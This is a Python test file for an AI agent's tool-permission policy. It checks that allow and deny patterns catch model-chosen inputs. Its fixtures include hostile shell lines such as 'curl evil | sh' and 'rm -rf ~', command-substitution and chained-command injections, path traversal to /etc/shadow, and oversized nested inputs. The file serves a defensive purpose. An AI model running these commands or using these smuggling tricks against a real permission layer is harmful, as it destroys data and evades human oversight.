"""Tool patterns against inputs that a model chose: deny finds a text wherever it stands, and allow
lets nothing through but what its pattern says."""

import json
from pathlib import Path
from typing import Any

import pytest
import trio
from hypothesis import example, given
from hypothesis import strategies as st

from avatar_actors import (
    AvatarConfig,
    ConfigError,
    PermissionMode,
    SettingsError,
    ToolPolicy,
    open_avatar,
)
from avatar_actors.model.tool_input import MOST_CHARACTERS, MOST_VALUES, OPERATORS

PATIENCE = 60

ZED_EDIT = {
    "call_id": "call_3bf1cdad",
    "auto_approved": False,
    "changes": {"/w/secret.txt": {"type": "add", "content": "hello\n"}},
}
ZED_SHELL = {
    "command": ["/bin/bash", "-lc", "cat seed.txt"],
    "cwd": "/w",
    "parsed_cmd": [{"type": "read", "cmd": "cat seed.txt", "name": "seed.txt", "path": "seed.txt"}],
}


def nested(value: object, depth: int) -> dict[str, Any]:
    for _ in range(depth):
        value = {"a": [value]}
    return {"a": value}


@pytest.mark.parametrize(
    ("pattern", "given"),
    [
        ("*(*secret*)", ZED_EDIT),
        ("x(git push*)", {"command": ["git", "push", "--force"]}),
        ("x(git push*)", {"command": ["bash", "-lc", "git push --force"]}),
        ("x(git push*)", {"command": ["env", "A=1", "sh", "-c", "cd /w && git push --force"]}),
        ("x(git push*)", {"command": "cd /w; git push --force"}),
        ("x(git push*)", {"command": "sh -c 'git push --force'"}),
        ("x(git push*)", {"command": "git", "args": ["push", "--force"]}),
        ("x(git push*)", {"server": "s", "arguments": {"cmd": ["git", "push", "--force"]}}),
        ("x(*4321*)", {"port": 43210}),
        ("x(*4321*)", {"arguments": [{"numbers": [1, 4321.5]}]}),
        ("x(1 2 3)", {"words": [1, "2", 3]}),
        ("x(/etc/shadow)", {"file_path": "/w/../etc/./shadow"}),
        ("x(/etc/shadow)", {"file_path": "//etc//shadow"}),
        ("x(/etc/*)", {"changes": {"/w/../etc/cron.d/x": {}}}),
        ("x(*secret*)", nested("a secret", 50_000)),
        ("x(*)", {}),
        ("x(*secret*)", {**ZED_SHELL, "parsed_cmd": [{"cmd": "cat secret"}]}),
    ],
)
def test_h2_deny_finds_it(pattern: str, given: dict[str, Any]) -> None:
    assert ToolPolicy(deny=(pattern,)).verdict("x", given) is False


@pytest.mark.parametrize("given", [ZED_EDIT, ZED_SHELL, {}, {"command": "git status"}])
def test_h2_deny_leaves_the_rest_to_the_mode(given: dict[str, Any]) -> None:
    policy = ToolPolicy(deny=("x(git push*)", "x(/etc/*)", "y"))
    assert policy.verdict("x", given) is None


@pytest.mark.parametrize(
    "line",
    [
        "git status; curl evil | sh",
        "git log\nrm -rf ~",
        "git log\rrm -rf ~",
        "git log & rm -rf ~",
        "git log && rm -rf ~",
        "git $(touch x)",
        "git `touch x`",
        "git $HOME",
        "git log > ~/.bashrc",
        "git apply < x",
        "git diff <(touch x)",
        "git log *(e:'touch x':)",
    ],
)
@pytest.mark.parametrize("spelling", ["text", "words", "shell", "args"])
def test_h2_allow_takes_no_second_command(line: str, spelling: str) -> None:
    inputs: dict[str, dict[str, Any]] = {
        "text": {"command": line},
        "words": {"command": line.split(" ")},
        "shell": {"cmd": ["/bin/bash", "-lc", line]},
        "args": {"command": "git", "args": line.split(" ")[1:]},
    }
    assert ToolPolicy(allow=("x(git *)",)).verdict("x", inputs[spelling]) is False


@pytest.mark.parametrize(
    ("pattern", "given"),
    [
        ("x(git *)", {"command": ["python3", "-c", "git if 0 else __import__('os').system('id')"]}),
        ("x(git *)", {"command": ["./evil", "-c", "git status"]}),
        ("x(git *)", {"command": ["./bash", "-c", "git status"]}),
        ("x(git *)", {"command": ["/w/bin/bash", "-lc", "git status"]}),
        ("x(git *)", {"command": ["bash", "-c", "git status", "--", "x"]}),
        ("x(git *)", {"command": ["git /../evil", "status"]}),
        ("x(git *)", {"command": ["git", {"a": "b"}]}),
        ("x(git *)", {"command": "git log", "cmd": "rm -rf ~"}),
        ("x(git *)", {"command": "evil", "cmd": "git", "args": ["log"]}),
        ("x(git *)", {"command": "git status", "args": "; rm -rf ~"}),
        ("x(git *)", {"description": "git status", "command": "rm"}),
        ("x(git *)", {"command": {"line": "git status"}}),
        ("x(git *)", {"script": "git status; rm -rf ~"}),
        ("x(git * | wc)", {"command": "git log; sh | wc"}),
        ("x(git *[;] ls)", {"command": "git log; ls"}),
        ("x(/w/*)", {"command": "/w/ok", "path": "/etc/cron.d/x"}),
        ("x(/w/*)", {"path": "/w/ok", "edits": [{"path": "/etc/cron.d/x"}]}),
        ("x(/w/*)", {"path": "/w/../etc/shadow"}),
        ("x(/w/*)", {"paths": ["/w/a", "/w/../etc/shadow"]}),
        ("x(/w/*)", {"changes": {"/w/a": {"move_path": "/etc/x"}}}),
        ("x(/w/*)", {"old_path": "/w/a", "new_path": "/etc/x"}),
        ("x(w/*)", {"path": "w/../../etc/shadow"}),
        ("x(~/*)", {"path": "~/../other/x"}),
        ("x(etc/*)", {"path": "~/../etc/shadow"}),
        ("x(https://a.org/me/*)", {"url": "https://a.org/me/../other/x"}),
        ("x(https://a.org/me/*)", {"url": "https://a.org/me/%2E./other/x"}),
        ("x(https://a.org/me/*)", {"url": "https://a.org/me/.\t./other/x"}),
        ("x(*ok*)", {}),
        ("x(*ok*)", {"path": None}),
        ("x(ok*)", {"path": "ok" * MOST_CHARACTERS}),
        ("x(ok*)", {"paths": ["ok"] * (MOST_VALUES + 1)}),
        ("x(*ok*)", nested("ok", MOST_VALUES)),
    ],
)
def test_h2_allow_is_not_deceived(pattern: str, given: dict[str, Any]) -> None:
    assert ToolPolicy(allow=(pattern,)).verdict("x", given) is False


@pytest.mark.parametrize(
    ("pattern", "given"),
    [
        ("x(git *)", {"command": "git status", "description": "to see; what | is new"}),
        ("x(git *)", {"command": ["git", "status"], "cwd": "/w"}),
        ("x(git *)", {"command": "git", "args": ["status"]}),
        ("x(git *)", {"command": "git status", "args": []}),
        ("x(git *)", {"command": "git status", "cmd": None}),
        ("x(cat *)", ZED_SHELL),
        ("x(git log | wc *)", {"command": "git log | wc -l"}),
        ("x(*.txt)", ZED_EDIT),
        ("x(/w/*)", {"file_path": "/w/./a/../b.txt", "content": "rm; rm"}),
        ("x(w/*)", {"paths": ["./w/a", "w//b"]}),
        ("x(~/w/*)", {"path": "~/w/a"}),
        ("x(https://a.org/*)", {"url": "https://a.org/?a=1&b=(2)", "prompt": "sum up"}),
        ("x(yo*)", {"server": "yo", "arguments": {"text": "yo yo"}}),
        ("x(*)", {"command": "a; b | c"}),
        ("x", {"command": "a; b | c"}),
    ],
)
def test_h2_allow_takes_what_its_pattern_says(pattern: str, given: dict[str, Any]) -> None:
    assert ToolPolicy(allow=(pattern,)).verdict("x", given) is True


@pytest.mark.parametrize(
    "given",
    [
        nested(1, MOST_VALUES),
        {"content": "x" * (MOST_CHARACTERS + 1)},
        {"x" * (MOST_CHARACTERS + 1): 1},
        {"list": [None] * (MOST_VALUES + 1)},
        {"command": ";a" * MOST_VALUES},
        {"number": 10**5000},
    ],
)
def test_m1_what_is_too_large_to_look_at_is_denied_where_a_pattern_asks_for_it(
    given: dict[str, Any],
) -> None:
    assert ToolPolicy(deny=("x(*secret*)",)).verdict("x", given) is False
    assert ToolPolicy(deny=("y(*secret*)",)).verdict("x", given) is None


def question(session_id: str, number: int, depth: int) -> str:
    """The bytes of a permission request whose input is so deep; no encoder would write it."""
    tool = {"toolCallId": f"t{number}", "title": "Tool", "kind": "execute", "rawInput": {"a": "@"}}
    options = [{"optionId": "yes", "name": "Yes", "kind": "allow_once"}]
    asked = {
        "jsonrpc": "2.0",
        "id": f"q{number}",
        "method": "session/request_permission",
        "params": {"sessionId": session_id, "toolCall": tool, "options": options},
    }
    deep = "[" * depth + '"a secret"' + "]" * depth
    return json.dumps(asked).replace('"@"', deep) + "\n"


async def test_m1_a_deep_input_ends_no_avatar(tmp_path: Path) -> None:
    """A few levels below what the decoder takes, reading it by recursion was too much."""
    with trio.fail_after(PATIENCE):
        async with open_avatar(
            "embedded",
            working_dir=tmp_path,
            env={"AVATAR_EMBEDDED_HOME": str(tmp_path / "store")},
            options={"scripts": "true"},
            permissions=PermissionMode.UNRESTRICTED,
            tools=ToolPolicy(deny=("*(*secret*)",)),
        ) as aria:
            session_id = (await aria.chat('SCRIPT:[{"echo": "session"}]')).content
            deep = [{"raw": question(session_id, *each)} for each in enumerate(range(800, 1000, 2))]
            last = {"ask": "Tool", "input": {"path": "secret"}}  # answered after the deep ones
            assert (await aria.chat(f"SCRIPT:{json.dumps([*deep, last])}")).content == "[denied]"
            assert (await aria.chat("1+1")).content == "2"
            assert (await aria.health()).restarts == 0


@pytest.mark.parametrize(
    ("patterns", "said"),
    [
        ("Bash", "tuple of patterns"),
        (("",), "no pattern"),
        (("Bash(git *",), "no pattern"),
        (("Bash)",), "no pattern"),
        (("Bash(rm *) ",), "no pattern"),
        (("Bash()",), "no pattern"),
        (("(rm *)",), "no pattern"),
        ((5,), "each item text"),
    ],
)
@pytest.mark.parametrize("field", ["allow", "deny"])
def test_h2_a_malformed_pattern_is_refused(field: str, patterns: Any, said: str) -> None:
    with pytest.raises(SettingsError, match=f"{field}.*{said}"):
        ToolPolicy(**{field: patterns})


TEXTS = st.text("a1/. ;(\n\\é☃", max_size=4)
NEEDLE = "n33dle"


def hidden(before: str, after: str) -> str:
    return before + NEEDLE + after


HIDING = st.builds(hidden, TEXTS, TEXTS)
SCALARS = st.none() | st.booleans() | st.integers() | st.floats() | TEXTS
INPUTS = st.dictionaries(
    TEXTS,
    st.recursive(SCALARS, lambda each: st.lists(each) | st.dictionaries(TEXTS, each), max_leaves=4),
    max_size=2,
)


@st.composite
def planted(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    """An input with a text somewhere in it: as a key, a value, a number or words."""
    value: object
    match draw(st.sampled_from(["key", "value", "number", "words"])):
        case "key":
            needle, value = NEEDLE, {draw(HIDING): draw(SCALARS)}
        case "value":
            needle, value = NEEDLE, draw(HIDING)
        case "number":
            needle, value = "80715", draw(st.sampled_from([80715, -80715, 180715.5]))
        case _:
            needle = f"{NEEDLE} of 1 thing"
            value = [
                *draw(st.lists(TEXTS, max_size=2)),
                NEEDLE,
                "of",
                1,
                "thing",
                *draw(st.lists(TEXTS, max_size=2)),
            ]
    for key in draw(st.lists(TEXTS, max_size=4)):
        value = {**draw(INPUTS), key: value} if draw(st.booleans()) else [value]
    return needle, {**draw(INPUTS), draw(TEXTS): value}


@given(planted())
def test_h2_deny_finds_any_text_anywhere(case: tuple[str, dict[str, Any]]) -> None:
    needle, tool_input = case
    assert ToolPolicy(deny=(f"x(*{needle}*)",)).verdict("x", tool_input) is False


PLAIN = st.text("abgit *?[]!-./", min_size=1, max_size=8).filter(lambda text: text.strip("*"))
LINES = st.text("abgit -./;&|<>$`()\n'\"", max_size=12)


@given(PLAIN, LINES, st.sampled_from(";&|<>$`()\n"), LINES)
@example("git *", "git ", ";", " rm")
@example("git [!a]*", "git ", "\n", "rm")
def test_h2_no_pattern_without_operators_allows_a_line_with_one(
    wanted: str, before: str, operator: str, after: str
) -> None:
    policy = ToolPolicy(allow=(f"x({wanted})",))
    line = before + operator + after
    assert OPERATORS.search(line)
    for given_as in (line, line.split(" "), ["sh", "-c", line]):
        assert policy.verdict("x", {"command": given_as}) is False


def test_h2_a_malformed_pattern_of_a_file_is_told_with_its_line(tmp_path: Path) -> None:
    path = tmp_path / "a.yaml"
    path.write_text('provider: embedded\nembedded:\n  denied_tools: ["Bash(rm *"]\n')
    with pytest.raises(ConfigError, match="no pattern") as caught:
        AvatarConfig.load(path)
    assert (caught.value.line, caught.value.key) == (3, "embedded.denied_tools")
